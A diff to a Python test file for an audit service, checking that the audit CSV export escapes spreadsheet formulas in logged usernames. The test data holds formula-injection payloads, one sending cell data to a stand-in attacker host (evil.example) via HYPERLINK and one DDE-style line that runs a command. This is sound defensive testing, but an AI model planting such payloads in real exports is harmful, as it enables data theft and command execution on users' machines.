@@ -129,13 +129,15 @@ async def test_two_writers_never_fork_the_chain(world: World) -> None:
 
 
 async def test_csv_export_neutralises_spreadsheet_formulas(world: World) -> None:
-    """A username tried at the login form lands in the audit as typed: the CSV must not run it."""
+    """A username tried at the login form lands in the audit as typed: the CSV must not run it.
+
+    (Failed logins from one address are audited in aggregate, the first in full: the entries are
+    written as the login path writes a first failure, one per name.)"""
     w = world
     aud = await w.user("auditor3", Role.auditor)
     formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
     for name in (formula, "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1"):
-        r = await w.client.post("/api/auth/token", data={"username": name, "password": "wrong"})
-        assert r.status_code == 401
+        await w.app.state.ld.audit.record("login_failed", username=name, address="127.0.0.1")
     r = await w.client.get("/api/audit/export.csv", headers=aud)
     names = [row["username"] for row in csv.DictReader(io.StringIO(r.text)) if row["kind"] == "login_failed"]
     assert names == ["'" + formula, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'-1"]
